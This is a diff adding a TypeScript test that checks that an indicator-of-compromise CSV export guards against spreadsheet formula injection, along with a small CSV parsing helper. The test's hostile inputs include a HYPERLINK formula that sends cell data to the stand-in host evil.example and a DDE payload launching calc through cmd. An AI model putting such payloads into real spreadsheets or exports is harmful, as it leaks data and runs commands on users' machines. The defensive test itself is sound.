@@ -227,3 +227,46 @@ test('a job left running by a process that died is taken up again and finished',
   assert.equal(still.status, 'running', 'a job another process is still running is left alone');
   await db.query("UPDATE reports SET status = 'failed', error = 'test cleanup' WHERE id = $1", [fresh.id]);
 });
+
+/** The cells of one CSV line (RFC 4180 quoting; the line holds no newline). */
+function csvCells(line: string): string[] {
+  const cells: string[] = [];
+  for (let i = 0; i <= line.length;) {
+    if (line[i] === '"') {
+      let cell = '';
+      for (i += 1; i < line.length; i += 1) {
+        if (line[i] === '"' && line[i + 1] === '"') { cell += '"'; i += 1; } else if (line[i] === '"') break; else cell += line[i];
+      }
+      cells.push(cell);
+      i += 2; // the closing quote and the comma
+    } else {
+      const end = line.indexOf(',', i) === -1 ? line.length : line.indexOf(',', i);
+      cells.push(line.slice(i, end));
+      i = end + 1;
+    }
+  }
+  return cells;
+}
+
+test('ioc_export neutralises cells a spreadsheet would run as a formula (= + - @, tab, carriage return)', async (t) => {
+  const app = await buildTestApp(t);
+  const headers = bearer(await login(app, 'analyst12', 'analyst-demo-pass'));
+  const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'];
+  const tag = `csv-probe-${Date.now()}`;
+  const indicators = hostile.map((text, i) => ({ type: 'domain', value: `${tag}-${i}.example`, severity: 'low', source: text, description: text }));
+  const imported = await app.inject({ method: 'POST', url: '/api/v1/indicators/import', headers, payload: { indicators } });
+  assert.equal(imported.statusCode, 200, imported.body);
+  const created = await app.inject({ method: 'POST', url: '/api/v1/reports', headers, payload: { kind: 'ioc_export', params: range(1) } });
+  const job = await waitForJob(app, headers, created.json<{ id: number }>().id);
+  assert.equal(job.status, 'done', String(job.error));
+  const csv = await app.inject({ method: 'GET', url: `/api/v1/reports/${job.id}/download`, headers });
+  const rows = csv.body.split('\n').filter((line) => line.includes(tag)).map(csvCells);
+  assert.equal(rows.length, hostile.length);
+  for (const cells of rows) {
+    const index = Number(/-(\d+)\.example$/.exec(cells[1])?.[1]);
+    assert.equal(cells.length, 8, cells.join(' | '));
+    assert.equal(cells[3], `'${hostile[index]}`, 'source starts with a single quote');
+    assert.equal(cells[7], `'${hostile[index]}`, 'description starts with a single quote');
+    assert.match(cells[4], /^\d{4}-/, 'times are written as they are');
+  }
+});
